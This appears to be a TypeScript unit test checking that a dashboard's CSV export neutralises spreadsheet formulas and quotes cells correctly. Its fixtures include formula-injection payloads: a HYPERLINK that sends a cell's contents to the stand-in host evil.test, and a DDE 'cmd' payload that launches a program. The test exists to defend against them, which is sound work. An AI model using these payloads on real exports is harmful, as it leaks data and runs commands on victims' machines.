// The dashboard's CSV buttons (web/src/csv.ts) write what the server's exports write: formulas neutralised.
import { parse } from 'csv-parse/sync'
import { describe, expect, it } from 'vitest'
import { toCsv } from './csv'

describe("the dashboard's CSV buttons", () => {
  it('neutralise formulas in cells, quote per RFC 4180 and keep numbers as numbers', () => {
    const text = toCsv(
      ['user', 'note', 'net', 'attributes'],
      [
        {
          user: '=HYPERLINK("https://evil.test/?"&A1,"Click me")',
          note: "-2+3+cmd|' /C calc'!A0",
          net: -12.5,
        },
        { user: '@SUM(1+1)', note: '+1', net: 0, attributes: { plan: '=1+1' } },
        { user: 'jane, "J"', note: null },
      ],
    )
    expect(text.split('\r\n')[1]).toBe(
      `"'=HYPERLINK(""https://evil.test/?""&A1,""Click me"")",'-2+3+cmd|' /C calc'!A0,-12.5,`,
    )
    expect(parse(text, { columns: true })).toEqual([
      {
        user: `'=HYPERLINK("https://evil.test/?"&A1,"Click me")`,
        note: "'-2+3+cmd|' /C calc'!A0",
        net: '-12.5',
        attributes: '',
      },
      { user: "'@SUM(1+1)", note: "'+1", net: '0', attributes: '{"plan":"=1+1"}' },
      { user: 'jane, "J"', note: '', net: '', attributes: '' },
    ])
  })
})
